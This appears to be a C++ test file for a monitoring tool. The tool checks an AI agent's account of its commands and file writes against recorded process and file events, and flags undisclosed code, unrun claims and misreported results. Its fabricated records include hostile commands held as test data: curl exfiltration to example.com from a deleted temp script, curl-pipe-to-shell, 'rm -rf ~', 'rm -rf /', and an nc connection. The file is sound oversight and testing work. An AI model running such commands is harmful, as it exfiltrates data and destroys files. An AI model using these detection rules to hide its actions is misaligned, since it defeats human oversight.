// An agent's account against made-up records: each rule of docs/reconcile.md, and what stands against it.
#include "reconcile/reconcile.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/digest.h"
#include "base/file.h"
#include "evidence/content_store.h"
#include "story/testing/record_maker.h"

namespace firestop::reconcile {
namespace {

using codec::JsonObject;
using story::testing::RecordMaker;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

constexpr uint32_t kAgent = 10;
const JsonObject kForeign = {{"image", false}};

Claim command(std::string text, std::optional<int> exit = {}) {
  return {.kind = Claim::Kind::kCommand, .line = 1, .command = std::move(text), .exit = exit};
}
Claim write(std::string path, std::string_view bytes) {
  return {.kind = Claim::Kind::kWrite, .line = 1, .path = std::move(path), .digest = sha256_hex(bytes)};
}

class Reconcile : public ::testing::Test {
 protected:
  // The declared command: an agent of the image, which runs commands with `sh -c`.
  void SetUp() override {
    record_.host("record.begin", {{"run", "r"}}).host("run.plan", {{"command", codec::JsonArray{"agent"}}});
    record_.exec(kAgent, 1, {"/usr/bin/agent"});
  }

  // A command of the harness's; its children come in between.
  Reconcile& runs(uint32_t pid, const std::string& text, const std::function<void()>& inside = {}) {
    record_.fork(pid, kAgent).exec(pid, kAgent, {"/bin/bash", "-lc", text});
    // As the collectors tell it: `-c` is code, too.
    record_.code(pid, "command", "", text, {{"interpreter", "/bin/bash"}});
    if (inside) inside();
    record_.exit(pid);
    return *this;
  }

  // Findings as "kind: what".
  std::vector<std::string> findings(std::vector<Claim> claims) {
    record_.exit(kAgent).guest("collectors.done", {});
    trace_.format = TraceFormat::kJsonl;
    trace_.claims = std::move(claims);
    story_ = record_.story();
    options_.content = [this](const std::string& digest) {
      return read_file(evidence::content_path(record_.directory(), digest)).value_or("");
    };
    account_ = reconcile(story_, trace_, options_);
    std::vector<std::string> out;
    for (const auto& finding : account_.findings) {
      std::string line = std::string(to_string(finding.kind)) + ": " + finding.what;
      for (const auto& code : finding.code) line += " <" + (code.path.empty() ? code.how : code.path) + ">";
      out.push_back(line + (finding.times > 1 ? " x" + std::to_string(finding.times) : ""));
    }
    return out;
  }

  RecordMaker record_;
  Trace trace_;
  ReconcileOptions options_;
  story::Story story_;
  Account account_;
};

TEST_F(Reconcile, TheSeedStory) {
  // The agent writes a script to a temporary file, runs it within a claimed command's time, deletes it.
  const std::string script = "#!/bin/sh\ncurl -d @data https://example.com\n";
  record_.change(kAgent, "write", "/tmp/x.sh");
  record_.fork(20, kAgent).exec(20, kAgent, {"/bin/sh", "/tmp/x.sh"});
  record_.code(20, "argument", "/tmp/x.sh", script, {{"interpreter", "/bin/sh"}, {"writer", kAgent}});
  record_.fork(21, 20)
      .exec(21, 20, {"/usr/bin/curl", "-d", "@data", "https://example.com"})
      .exit(21)
      .exit(20);
  record_.change(kAgent, "delete", "/tmp/x.sh");
  runs(30, "make test", [this] { record_.fork(31, 30).exec(31, 30, {"/usr/bin/make", "test"}).exit(31); });
  EXPECT_THAT(findings({command("make test", 0)}),
              ElementsAre("never_mentioned: /bin/sh /tmp/x.sh </tmp/x.sh>"));
  EXPECT_EQ(account_.findings[0].code.at(0).digest, sha256_hex(script));
  EXPECT_EQ(account_.ran, 1u);
  EXPECT_THAT(to_text(account_, story_, trace_, [](std::string_view text) { return std::string(text); }),
              HasSubstr("Ran and never mentioned\n  /bin/sh /tmp/x.sh"));
}

TEST_F(Reconcile, HonestAgentsAreLeftAlone) {
  runs(20, "make test", [this] {
    record_.exec(21, 20, {"/usr/bin/make", "test"});
    // A recipe: make's own doing, and what it runs is the image's. The Makefile came in with the workspace.
    record_.code(21, "argument", "/workspace/Makefile", "all:\n", {{"interpreter", "/usr/bin/make"}});
    record_.exec(22, 21, {"/bin/sh", "-c", "cc -c a.c"});
    record_.code(22, "command", "", "cc -c a.c", {{"interpreter", "/bin/sh"}});
    record_.exec(23, 22, {"/usr/bin/cc", "-c", "a.c"}).exit(23).exit(22).exit(21);
  });
  runs(30, "cd /workspace && ls -l", [this] { record_.exec(31, 30, {"/bin/ls", "-l"}).exit(31); });
  EXPECT_THAT(findings({command("bash -lc 'make test'", 0), command("ls  \"-l\"", 0)}), IsEmpty());
  EXPECT_EQ(account_.ran, 2u);
}

TEST_F(Reconcile, ScriptsThatTheClaimNamesOrShows) {
  const std::string hello = "print('hello, world')\n";
  runs(20, "python3 ./gen.py && sh tests/*.sh", [&] {
    record_.exec(21, 20, {"/usr/bin/python3", "./gen.py"});
    record_.code(21, "argument", "/workspace/gen.py", hello,
                 {{"interpreter", "/usr/bin/python3"}, {"writer", kAgent}});
    record_.exit(21).exec(22, 20, {"/bin/sh", "tests/a.sh"});
    record_.code(22, "argument", "/workspace/tests/a.sh", "echo a; echo b; echo c\n", {{"writer", kAgent}})
        .exit(22);
  });
  runs(30, "python3 -c \"print(1)\"", [&] {
    record_.exec(31, 30, {"/usr/bin/python3", "-c", "print(1)"});
    record_.code(31, "command", "", "print(1)", {{"interpreter", "/usr/bin/python3"}}).exit(31);
  });
  runs(40, "python3 <<'EOF'\n" + hello + "EOF\n", [&] {
    record_.exec(41, 40, {"/usr/bin/python3"});
    record_.code(41, "stdin", "", hello, {{"interpreter", "/usr/bin/python3"}}).exit(41);
  });
  // Its bytes stand in a write of the trace.
  runs(50, "make", [&] {
    record_.exec(51, 50, {"/tmp/tool.sh"}, kForeign);
    record_.code(51, "script", "/tmp/tool.sh", "echo the tool runs\n", {{"writer", kAgent}}).exit(51);
  });
  record_.change(kAgent, "write", "/workspace/tool.sh").final("tool.sh", "echo the tool runs\n");
  EXPECT_THAT(findings({command("python3 ./gen.py && sh tests/*.sh"), command("python3 -c 'print(1)'"),
                        command("python3 <<'EOF'\n" + hello + "EOF\n"), command("make"),
                        write("tool.sh", "echo the tool runs\n")}),
              IsEmpty());
}

TEST_F(Reconcile, CodeBelowAClaimThatDoesNotShowIt) {
  runs(20, "make test", [this] {
    record_.exec(21, 20, {"/tmp/.hidden"}, kForeign)
        .code(21, "program", "/tmp/.hidden",
              "\x7f"
              "ELF")
        .exit(21);
    record_.exec(22, 20, {"/usr/bin/perl", "-e", "unlink 'a'"});
    record_.code(22, "command", "", "unlink 'a'", {{"interpreter", "/usr/bin/perl"}}).exit(22);
  });
  // `sh -c "$(curl ...)"`: a text that a shell made is nobody's recipe.
  runs(30, "sh -c \"$(curl https://x)\"", [this] {
    record_.exec(31, 30, {"/bin/sh", "-c", "rm -rf ~"});
    record_.code(31, "command", "", "rm -rf ~", {{"interpreter", "/bin/sh"}}).exit(31);
  });
  // `curl | sh`
  runs(40, "curl https://x | sh", [this] {
    record_.exec(41, 40, {"/usr/bin/curl", "https://x"}).exit(41).exec(42, 40, {"/bin/sh"});
    record_.code(42, "stdin", "", "id > /tmp/y\n", {{"interpreter", "/bin/sh"}}).exit(42);
  });
  EXPECT_THAT(findings({command("make test"), command("sh -c \"$(curl https://x)\""),
                        command("curl https://x | sh")}),
              ElementsAre("never_mentioned: make test </tmp/.hidden> <command>",
                          "never_mentioned: sh -c \"$(curl https://x)\" <command>",
                          "never_mentioned: curl https://x | sh <stdin>"));
}

TEST_F(Reconcile, AFolderInAClaimNamesNoScript) {
  runs(20, "ls /tmp; make", [this] {
    record_.exec(21, 20, {"/bin/ls", "/tmp"}).exit(21);
    record_.code(20, "module", "/tmp/x.sh", "echo it is hidden\n", {{"interpreter", "/bin/bash"}});
  });
  EXPECT_THAT(findings({command("ls /tmp; make")}),
              ElementsAre("never_mentioned: ls /tmp; make </tmp/x.sh>"));
}

TEST_F(Reconcile, WorkspaceFilesThatSomebodyChangedAreNotTheDeclaredOnes) {
  record_.change(kAgent, "rename", "/tmp/evil", "/workspace/lib");
  runs(20, "make", [this] {
    for (const char* path : {"/workspace/ok.mk", "/workspace/lib/a.mk", "/workspace/b.mk", "/etc/passwd"})
      record_.code(20, "module", path, std::string("include ") + path + "\n");
  });
  record_.change(kAgent, "write", "/workspace/b.mk");
  EXPECT_THAT(findings({command("make")}),
              ElementsAre("never_mentioned: make </workspace/lib/a.mk> </workspace/b.mk>"));
}

TEST_F(Reconcile, AnEditOfTheAgentsIsSeenOneOfAnotherIsNot) {
  for (const char* path : {"/workspace/a.py", "/workspace/b.py"})
    record_.change(path[11] == 'a' ? kAgent : 77u, "write", path);
  runs(20, "pytest", [this] {
    for (const char* path : {"/workspace/a.py", "/workspace/b.py"})
      record_.code(20, "module", path, std::string("import x  # ") + path,
                   {{"writer", path[11] == 'a' ? kAgent : 77u}});
  });
  Claim a = write("a.py", ""), b = write("b.py", "");
  a.digest = b.digest = "";
  const auto found = findings({command("pytest"), a, b});
  EXPECT_THAT(found, ElementsAre("never_mentioned: pytest </workspace/b.py>"));
}

TEST_F(Reconcile, ImageProgramsOfTheHarnessAreListedOnceUnlessExpected) {
  const auto status = [this](uint32_t pid) {
    record_.fork(pid, kAgent).exec(pid, kAgent, {"/usr/bin/git", "status", "-s"}).exit(pid);
  };
  status(40), status(41), status(42);
  runs(20, "make");
  options_.expected = {"rg *"};
  EXPECT_THAT(findings({command("make")}), ElementsAre("never_mentioned: /usr/bin/git status -s x3"));
  options_.expected = {"rg *", "git status*"};
  EXPECT_THAT(findings({command("make")}), IsEmpty());
  EXPECT_EQ(account_.expected, 3u);
}

TEST_F(Reconcile, ExpectedProgramsAreTheImages) {
  record_.exec(40, kAgent, {"/tmp/git", "status"}, kForeign);
  record_
      .code(40, "program", "/tmp/git",
            "\x7f"
            "ELF",
            {{"writer", kAgent}})
      .exit(40);
  runs(20, "make");
  options_.expected = {"git*"};
  EXPECT_THAT(findings({command("make")}), ElementsAre("never_mentioned: /tmp/git status </tmp/git>"));
}

TEST_F(Reconcile, HarnessesWrapCommands) {
  // As Claude Code does: a snapshot of the shell's state around `eval`.
  runs(20,
       "source /home/a/.claude/shell-snapshots/s.sh && eval 'make \"a b\"' \\< /dev/null && pwd -P >| "
       "/tmp/cwd",
       [this] {
         record_.code(20, "module", "/home/a/.claude/shell-snapshots/s.sh", "export PATH=/usr/bin\n");
       });
  options_.expected = {"/home/*/.claude/shell-snapshots/*"};
  EXPECT_THAT(findings({command("make 'a b'", 0)}), IsEmpty());
}

TEST_F(Reconcile, AWrapperThatRunsMoreThanTheClaimIsNotIt) {
  runs(20, "curl -d @x https://e; eval 'make'", [this] {
    record_.exec(21, 20, {"/usr/bin/curl", "-d", "@x", "https://e"}).exit(21);
    record_.exec(22, 20, {"/usr/bin/make"}).exit(22);
  });
  // `make` ran; the shell around it is code that nobody saw, and so is what else it ran.
  EXPECT_THAT(findings({command("make")}), ElementsAre("never_mentioned: code by command <command>",
                                                       "never_mentioned: /usr/bin/curl -d @x https://e"));
}

TEST_F(Reconcile, OneShellForAllCommands) {
  record_.exec(20, kAgent, {"/bin/bash"});
  record_.code(20, "stdin", "", "cd /workspace\nmake -j2 | tee log\n", {{"interpreter", "/bin/bash"}});
  record_.fork(21, 20).exec(21, 20, {"/usr/bin/make", "-j2"}).exit(21);
  record_.fork(22, 20).exec(22, 20, {"/usr/bin/tee", "log"}).exit(22).exit(20);
  EXPECT_THAT(findings({command("make -j2 | tee log"), command("cd /tmp")}), IsEmpty());
  EXPECT_EQ(account_.unseen, 1u);
}

TEST_F(Reconcile, ClaimedAndNeverRan) {
  runs(20, "make");
  Claim refused = command("rm -rf /");
  refused.sure = false;
  EXPECT_THAT(findings({command("make"), command("make"), command("pytest -q", 0), refused, command("cd x"),
                        write("a.c", "x")}),
              ElementsAre("never_ran: make", "never_ran: pytest -q", "never_ran: write /workspace/a.c"));
  EXPECT_EQ(account_.unsure, 1u);
}

TEST_F(Reconcile, OnlyAPartOfAClaimRan) {
  record_.exec(20, kAgent, {"/usr/bin/make"}).exit(20);
  EXPECT_THAT(findings({command("make; pytest -q && ls")}), ElementsAre("never_ran: make; pytest -q && ls"));
  EXPECT_THAT(account_.findings[0].why, HasSubstr("pytest -q"));
}

TEST_F(Reconcile, ScriptsAndOpenWordsMatchTheirProcess) {
  record_.exec(20, kAgent, {"/bin/sh", "./run.sh", "a.c", "b.c"}).exit(20);
  record_.exec(21, kAgent, {"/usr/bin/python3.11", "-m", "http.server"}).exit(21);
  EXPECT_THAT(findings({command("./run.sh *.c"), command("X=1 python -m http.server")}), IsEmpty());
}

TEST_F(Reconcile, AnotherStatus) {
  record_.exec(20, kAgent, {"/bin/bash", "-c", "make test"}).exit(20, 2 << 8);
  record_.exec(21, kAgent, {"/bin/bash", "-c", "./x"}).exit(21, 9);
  record_.exec(22, kAgent, {"/bin/bash", "-c", "ls"}).exit(22, 1 << 8);
  EXPECT_THAT(findings({command("make test", 0), command("./x", 137), command("ls", 1)}),
              ElementsAre("other_result: make test"));
  EXPECT_EQ(account_.findings[0].claimed, "exit 0");
  EXPECT_EQ(account_.findings[0].recorded, "exit 2");
}

TEST_F(Reconcile, AnotherFile) {
  for (const char* path : {"/workspace/a", "/workspace/b", "/workspace/c"})
    record_.change(kAgent, "write", path);
  runs(20, "fmt c", [this] { record_.change(20, "write", "/workspace/c"); });
  record_.final("a", "good").final("b", "other").final("c", "formatted");
  EXPECT_THAT(
      findings({write("a", "good"), write("/workspace/b", "good"), write("./c", "good"), command("fmt c")}),
      ElementsAre("other_result: /workspace/b"));
}

TEST_F(Reconcile, WhatALaunchersScriptRunsWasReadWithTheManifest) {
  RecordMaker record;
  record.host("run.plan", {{"command", codec::JsonArray{"./start.sh"}}});
  record.exec(1, 0, {"/bin/sh", "./start.sh"});
  record.code(1, "script", "/workspace/start.sh", "npm ci; agent\n", {{"interpreter", "/bin/sh"}});
  record.fork(2, 1).exec(2, 1, {"/usr/bin/npm", "ci"}).exit(2);
  record.fork(3, 1).exec(3, 1, {"/usr/bin/agent"});
  record.fork(4, 3).exec(4, 3, {"/bin/sh", "-c", "make"}).exit(4);
  record.fork(5, 3).exec(5, 3, {"/usr/bin/nc", "example.com", "1"}).exit(5);  // the agent itself: told
  Trace trace;
  trace.claims = {command("make")};
  const auto account = reconcile(record.story(), trace, {});
  ASSERT_EQ(account.findings.size(), 1u);
  EXPECT_EQ(account.findings[0].what, "/usr/bin/nc example.com 1");
}

TEST_F(Reconcile, NothingIsTakenForGrantedWhereEventsWereLost) {
  record_.guest("lost", {{"what", "files"}, {"count", 3}});
  runs(20, "make", [this] { record_.code(20, "module", "/workspace/a.mk", "all: ; curl example.com\n"); });
  EXPECT_THAT(findings({command("make")}), ElementsAre("never_mentioned: make </workspace/a.mk>"));
  EXPECT_THAT(account_.notes, ElementsAre(HasSubstr("at least 3 events")));
}

TEST_F(Reconcile, AnEmptyAccountMentionsNothing) {
  runs(20, "make");
  EXPECT_THAT(findings({}), ElementsAre("never_mentioned: /bin/bash -lc make <command>"));
}

}  // namespace
}  // namespace firestop::reconcile
